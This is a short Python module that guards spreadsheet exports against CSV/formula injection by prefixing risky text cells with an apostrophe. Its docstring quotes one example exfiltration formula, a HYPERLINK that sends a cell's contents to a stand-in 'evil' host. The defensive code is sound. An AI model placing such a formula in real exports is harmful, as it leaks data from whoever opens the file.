"""The OWASP rule against CSV/formula injection, for spreadsheet exports.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some versions, tab or carriage return) as a formula: a published cell such
as ``=HYPERLINK("http://evil/?"&A1)`` would run on a reuser's machine. Such a
text cell is prefixed with an apostrophe, which spreadsheets hide and which
makes the cell text.

Numbers are left alone: numeric columns are written as numbers (never
prefixed), and a text cell that is just a signed number (``-12``, ``+3,5``,
``-1.5e3``) cannot run anything, so ``-12`` in a text column stays ``-12``
rather than becoming ``'-12``.
"""

from __future__ import annotations

import re

FORMULA_STARTS = "=+-@\t\r"
# One pattern for Python (XLSX) and PostgreSQL (CSV, sql_cells.py): POSIX
# syntax both understand.
PLAIN_NUMBER = r"[+-]?([0-9][0-9 ]*([.,][0-9]*)?|[.,][0-9]+)([eE][+-]?[0-9]+)?"
_PLAIN_NUMBER = re.compile(PLAIN_NUMBER)


def neutralise(text: str) -> str:
    """``text`` as a cell a spreadsheet will not evaluate."""
    if text and text[0] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text
